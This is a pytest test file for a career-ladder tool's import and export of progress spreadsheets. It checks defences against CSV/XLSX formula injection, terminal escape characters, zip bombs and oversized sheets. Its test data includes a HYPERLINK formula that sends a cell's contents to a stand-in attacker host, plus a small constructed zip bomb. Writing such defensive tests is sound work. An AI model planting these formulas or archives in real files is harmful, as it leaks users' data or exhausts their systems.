"""The tracking sheet: plan sheet -> (people fill it in) -> plan update, in CSV and XLSX, and
the sheets that come back wrong or hostile."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from paths import ACME

import dualladder
from dualladder._internal.model.ladder import Ladder
from dualladder._internal.model.plan import Plan, Position, Status, Waiver
from dualladder._internal.services.plan.scaffold import new_plan
from dualladder._internal.services.plan.sheet import (
    COLUMNS,
    SHEET_MAX_BYTES,
    SHEET_MAX_ROWS,
    SHEET_MAX_UNPACKED,
    NotASheet,
    SheetError,
    _csv_cell,
    _uncell,
    apply_sheet,
    read_sheet,
    sheet_rows,
    write_sheet,
)
from dualladder._internal.util.files import FileTooLarge


@pytest.fixture(scope="module")
def acme() -> Ladder:
    return dualladder.load(ACME)


def _plan(acme: Ladder) -> Plan:
    return new_plan(
        acme, ladder_path="acme.yaml", current=Position(track="technical", level="L5"),
        goal=Position(track="technical", level="L6"), person_id="E1042",
        today=date(2026, 11, 25), target=date(2027, 9, 30),
    )


def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _problems(plan: Plan, path: Path) -> list[str]:
    with pytest.raises(SheetError) as info:
        apply_sheet(plan, read_sheet(path), str(path))
    assert not isinstance(info.value, NotASheet)
    return info.value.problems


# -- writing ------------------------------------------------------------------------------------


def test_one_row_per_step_and_per_ask(acme: Ladder) -> None:
    plan = _plan(acme)
    rows = sheet_rows(plan, acme)
    steps = [r for r in rows if r[0] == "step"]
    asks = [r for r in rows if r[0] != "step"]
    assert [r[1] for r in steps] == [s.id for s in plan.steps]
    assert [r[4:7] for r in steps] == [["employee", "2027-09-30", "open"]] * len(plan.steps)
    assert len(asks) == len(plan.steps)  # the scaffold has one step per ask
    assert [r[3] for r in asks] == [f"S{n}" for n in range(1, len(asks) + 1)]
    assert [r[2] for r in asks] == [s.covers[0] for s in plan.steps]
    assert {r[0] for r in asks} == {"expectation", "scope", "decision"}
    assert all(r[4:] == ["", "", "", "", ""] for r in asks)


def test_an_ask_row_says_what_covers_it(acme: Ladder) -> None:
    plan = _plan(acme)
    first, second = plan.steps[0], plan.steps[1]
    steps = [first.model_copy(update={"status": Status.DROPPED}), *plan.steps[1:]]
    plan = plan.model_copy(update={
        "steps": [s for s in steps if s.id != second.id],
        "waived": [Waiver(ask=second.covers[0].upper(), reason="done already")],
    })
    asks = [r for r in sheet_rows(plan, acme) if r[0] != "step"]
    assert asks[0][3] == "not covered"  # a dropped step covers nothing
    assert asks[1][3] == "waived: done already"
    assert asks[2][3] == "S3"


def test_without_the_ladder_the_sheet_lists_the_steps(acme: Ladder) -> None:
    plan = _plan(acme)
    rows = sheet_rows(plan, None)
    assert [r[0] for r in rows] == ["step"] * len(plan.steps)


def test_the_csv_sheet_opens_in_a_spreadsheet(acme: Ladder, tmp_path: Path) -> None:
    sheet = tmp_path / "p.csv"
    write_sheet(_plan(acme), acme, sheet)
    raw = sheet.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfkind,id,what,for,owner,due,status,evidence,made\r\n")
    assert _csv(sheet)[0] == list(COLUMNS)


def test_the_xlsx_sheet_offers_the_statuses(acme: Ladder, tmp_path: Path) -> None:
    plan = _plan(acme)
    sheet = tmp_path / "p.xlsx"
    write_sheet(plan, acme, sheet)
    ws = load_workbook(sheet).active
    assert ws is not None
    assert [c.value for c in ws[1]] == list(COLUMNS)
    assert ws.freeze_panes == "A2"
    (rule,) = ws.data_validations.dataValidation
    assert rule.formula1 == '"open,in-progress,done,dropped"'
    assert str(rule.sqref) == f"G2:G{len(plan.steps) + 1}"


def test_a_sheet_is_csv_or_xlsx(acme: Ladder, tmp_path: Path) -> None:
    with pytest.raises(NotASheet, match=r"\.csv or \.xlsx"):
        write_sheet(_plan(acme), acme, tmp_path / "p.ods")
    assert not (tmp_path / "p.ods").exists()


def test_formulas_are_never_formulas(acme: Ladder, tmp_path: Path) -> None:
    plan = _plan(acme)
    steps = [plan.steps[0].model_copy(update={"what": '=HYPERLINK("http://x")',
                                              "evidence": "@SUM(A1)"}), *plan.steps[1:]]
    plan = plan.model_copy(update={"steps": steps})
    write_sheet(plan, acme, tmp_path / "s.csv")
    row = _csv(tmp_path / "s.csv")[1]
    assert row[2] == "'=HYPERLINK(\"http://x\")" and row[7] == "'@SUM(A1)"
    assert read_sheet(tmp_path / "s.csv")[0].cells["evidence"] == "@SUM(A1)"
    write_sheet(plan, acme, tmp_path / "s.xlsx")
    ws = load_workbook(tmp_path / "s.xlsx").active
    assert ws is not None
    for cell in (ws["C2"], ws["H2"]):
        assert cell.data_type == "s" and cell.quotePrefix
    assert ws["C2"].value == '=HYPERLINK("http://x")'  # text, without an apostrophe
    assert not ws["C3"].quotePrefix
    assert read_sheet(tmp_path / "s.xlsx")[0].cells["evidence"] == "@SUM(A1)"


def test_control_characters_are_escaped_but_lines_kept(acme: Ladder, tmp_path: Path) -> None:
    plan = _plan(acme)
    steps = [plan.steps[0].model_copy(update={"what": "a\x1b]0;x\x07b",
                                              "evidence": "line one\nline two"}),
             *plan.steps[1:]]
    plan = plan.model_copy(update={"steps": steps})
    for name in ("s.csv", "s.xlsx"):
        write_sheet(plan, acme, tmp_path / name)
        assert read_sheet(tmp_path / name)[0].cells["evidence"] == "line one\nline two"
    assert _csv(tmp_path / "s.csv")[1][2] == "a\\x1b]0;x\\x07b"


def test_apostrophes_round_trip() -> None:
    for text in ("'=x", "'hello", "''", "=1+1", "-", "plain", "it's", "\tx"):
        assert _uncell(_csv_cell(text)) == text
    assert _uncell("'tis done") == "'tis done"  # an apostrophe people typed stays


# -- reading back ---------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_sheet_round_trip_updates_the_filled_in_columns(
    acme: Ladder, tmp_path: Path, suffix: str
) -> None:
    plan = _plan(acme)
    sheet = tmp_path / f"progress{suffix}"
    write_sheet(plan, acme, sheet)
    if suffix == ".csv":
        rows = _csv(sheet)
        rows[1][4:8] = ["Grace (mentor)", "2027-03-31", "done", "https://example.com/doc"]
        rows[2][6] = "In Progress"
        rows[3][4:6] = ["", ""]
        _write_csv(sheet, rows)
    else:
        book = load_workbook(sheet)
        ws = book.active
        assert ws is not None
        ws["E2"], ws["F2"] = "Grace (mentor)", datetime(2027, 3, 31)  # typed as a date
        ws["G2"], ws["H2"], ws["G3"] = "done", "https://example.com/doc", "in_progress"
        ws["E4"], ws["F4"] = None, None
        book.save(sheet)
    updated = apply_sheet(plan, read_sheet(sheet), str(sheet))
    first, second, third = updated.steps[:3]
    assert (first.owner, first.due, first.status, first.evidence) == (
        "Grace (mentor)", date(2027, 3, 31), Status.DONE, "https://example.com/doc"
    )
    assert second.status is Status.IN_PROGRESS and second.evidence is None
    assert (third.owner, third.due) == (None, None)  # an emptied cell empties the field
    assert updated.steps[3:] == plan.steps[3:]
    assert [s.what for s in updated.steps] == [s.what for s in plan.steps]


def test_owner_and_due_columns_are_optional(acme: Ladder, tmp_path: Path) -> None:
    plan = _plan(acme)
    sheet = tmp_path / "p.csv"
    sheet.write_text("id,kind,status,evidence\nS2,step,done,\n", encoding="utf-8")
    updated = apply_sheet(plan, read_sheet(sheet), str(sheet))
    assert updated.steps[1].status is Status.DONE
    assert (updated.steps[1].owner, updated.steps[1].due) == ("employee", date(2027, 9, 30))
    assert updated.steps[0] == plan.steps[0]  # a step the sheet does not list stays


def test_a_semicolon_sheet_is_read(acme: Ladder, tmp_path: Path) -> None:
    plan = _plan(acme)
    sheet = tmp_path / "p.csv"
    sheet.write_text('kind;id;what;status;evidence\nstep;S1;"a; b";done;x\n', encoding="utf-8")
    assert apply_sheet(plan, read_sheet(sheet), str(sheet)).steps[0].status is Status.DONE
    sheet.write_text("Kind\tID\tStatus\tEvidence\nstep\tS2\tdropped\ta, b\n", encoding="utf-8")
    updated = apply_sheet(plan, read_sheet(sheet), str(sheet))
    assert (updated.steps[1].status, updated.steps[1].evidence) == (Status.DROPPED, "a, b")


def test_bad_rows_are_located_and_nothing_is_applied(acme: Ladder, tmp_path: Path) -> None:
    plan = _plan(acme)
    sheet = tmp_path / "p.csv"
    sheet.write_text(
        "kind,id,what,for,owner,due,status,evidence\n"
        "step,S1,x,,,,finished,\n"           # 2: a status the plan does not know
        "step,S99,x,,,,done,\n"              # 3: a step the plan does not have
        "step,S2,x,,,31/03/2027,done,\n"     # 4: not a date
        "step,S3,x,,,,done,ok\n"             # 5: fine
        "step,S3,x,,,,open,\n"               # 6: listed twice
        "task,S4,x,,,,done,\n"               # 7: a kind the sheet does not have
        ",S5,x,,,,done,\n"                   # 8: no kind
        "expectation,A1,x,S1,,,done,\n"      # 9: an ask row: read for reference only
        f"step,S6,x,,,,done,{'e' * 2001}\n"  # 10: more than the plan holds
        "step,S7,x,,,,done,\"a\x1bb\"\n"     # 11: a control character
        "step,,x,,,,done,\n",                # 12: no id
        encoding="utf-8",
    )
    assert _problems(plan, sheet) == [
        f"{sheet}:7:1: the kind 'task' is not a step or an ask of the goal (step, expectation, "
        "scope, decision); add new steps in the plan file",
        f"{sheet}:8:1: a row without a kind is not a step or an ask of the goal (step, "
        "expectation, scope, decision); add new steps in the plan file",
    ]
    text = sheet.read_text(encoding="utf-8").splitlines()
    sheet.write_text("\n".join(text[:6] + text[8:]) + "\n", encoding="utf-8")
    assert _problems(plan, sheet) == [
        f"{sheet}:2:7: status 'finished' of step 'S1' is not one of open, in-progress, done, "
        "dropped",
        f"{sheet}:3:2: step 'S99' is not in the plan; add new steps in the plan file",
        f"{sheet}:4:6: due '31/03/2027' of step 'S2' is not a date (YYYY-MM-DD)",
        f"{sheet}:6:2: step S3 is listed twice (first on line 5)",
        f"{sheet}:8:8: the evidence of step S6: String should have at most 2000 characters",
        f"{sheet}:9:8: the evidence of step 'S7' holds a control character (\\x1b)",
        f"{sheet}:10:2: step (empty) is not in the plan; add new steps in the plan file",
    ]


def test_a_formula_typed_into_a_workbook_is_refused(acme: Ladder, tmp_path: Path) -> None:
    plan = _plan(acme)
    sheet = tmp_path / "p.xlsx"
    write_sheet(plan, acme, sheet)
    book = load_workbook(sheet)
    ws = book.active
    assert ws is not None
    ws["H3"] = '=HYPERLINK("http://evil.example/?"&A1)'
    ws["G4"] = '=IF(1,"done","open")'
    book.save(sheet)
    assert _problems(plan, sheet) == [
        f"{sheet}:3:8: the evidence of step 'S2' is a formula; type the value itself",
        f"{sheet}:4:7: the status of step 'S3' is a formula; type the value itself",
    ]


def test_a_multi_line_row_is_located_where_it_starts(acme: Ladder, tmp_path: Path) -> None:
    sheet = tmp_path / "p.csv"
    sheet.write_text('kind,id,status,evidence\nstep,S1,done,"a\nb\nc"\nstep,S1,done,\n',
                     encoding="utf-8")
    assert _problems(_plan(acme), sheet) == [
        f"{sheet}:5:2: step S1 is listed twice (first on line 2)"
    ]


# -- files that are not sheets ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", ":1:1: the sheet is empty"),
        (b"\n\n", ":1:1: the sheet is empty"),
        (b"a,b\n1,2\n", ":1:1: not a tracking sheet: no column 'kind', 'id', 'status', "
         "'evidence'"),
        (b"kind,id,status,evidence,Status\n", ":1:5: not a tracking sheet: the column "
         "'status' is in the header twice"),
        (b"kind,id,status,evidence\nstep,S1,\xe9t\xe9,\n", ":2:1: not UTF-8 text"),
        (b"kind,id,status,evidence\nstep,S1\x00,done,\n", ":2:1: not a CSV file: it holds "
         "NUL bytes"),
        (b"PK\x03\x04\x14\x00\x08\x00\x08\x00\x8b\x9c", ":1:1: not UTF-8 text"),  # XLSX as .csv
        (b'kind,id,status,evidence\nstep,"' + b"x" * 200_000 + b'",done,\n',
         ":2:1: not a CSV file: field larger than field limit"),
    ],
)
def test_csv_files_that_are_not_sheets(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(content)
    with pytest.raises(NotASheet) as info:
        read_sheet(path)
    assert str(info.value).startswith(f"{path}{message}")


def test_xlsx_files_that_are_not_sheets(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    for content in (b"kind,id,status,evidence\n", b"PK\x03\x04 not really a zip", b""):
        path.write_bytes(content)
        with pytest.raises(NotASheet, match=r"x\.xlsx:1:1: not an XLSX workbook"):
            read_sheet(path)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    path.write_bytes(buffer.getvalue())
    with pytest.raises(NotASheet, match=r"x\.xlsx:1:1: not an XLSX workbook"):
        read_sheet(path)


def test_a_zip_bomb_is_not_opened(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"\x00" * (SHEET_MAX_UNPACKED + 1))
    assert len(buffer.getvalue()) < SHEET_MAX_BYTES
    path.write_bytes(buffer.getvalue())
    with pytest.raises(NotASheet, match="unpacks to more than 64 MiB"):
        read_sheet(path)


def test_huge_sheets_stop_at_the_caps(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_bytes(b"kind,id,status,evidence\n" + b"\n" * SHEET_MAX_ROWS)
    with pytest.raises(NotASheet, match=f"big.csv:{SHEET_MAX_ROWS + 1}:1: more than 10,000"):
        read_sheet(path)
    path.write_bytes(b"x" * (SHEET_MAX_BYTES + 1))
    with pytest.raises(FileTooLarge):
        read_sheet(path)
    # a workbook a few kilobytes big whose one cell claims row 1,000,000: rows are counted as
    # openpyxl makes up the empty ones, so this stops at the cap instead of running on
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.append(list(COLUMNS))
    ws.cell(row=1_000_000, column=1, value="step")
    book.save(tmp_path / "big.xlsx")
    with pytest.raises(NotASheet, match=f"big.xlsx:{SHEET_MAX_ROWS + 1}:1: more than"):
        read_sheet(tmp_path / "big.xlsx")


def test_a_wide_row_is_cut_at_the_column_cap(acme: Ladder, tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text("kind,id,status,evidence\nstep,S1,done,e" + ",x" * 100_000 + "\n",
                    encoding="utf-8")
    (row,) = read_sheet(path)
    assert (row.id, row.cells) == ("S1", {"status": "done", "evidence": "e"})
